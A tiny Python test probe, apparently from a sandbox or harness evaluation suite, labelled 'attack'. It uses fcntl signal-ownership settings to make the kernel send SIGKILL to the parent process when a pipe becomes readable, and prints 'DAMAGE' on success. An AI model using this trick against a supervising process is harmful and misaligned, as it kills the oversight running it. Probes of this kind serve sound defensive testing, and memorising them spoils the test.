# attack: lets the kernel send SIGKILL to the parent when a pipe can be read
# keeps: convolve output_size
# control: does

import fcntl
import os

r, w = os.pipe()
try:
    fcntl.fcntl(r, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(r, 10, 9)
    fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
    os.write(w, b"x")
    print("DAMAGE: a signal by a file")
except OSError:
    pass
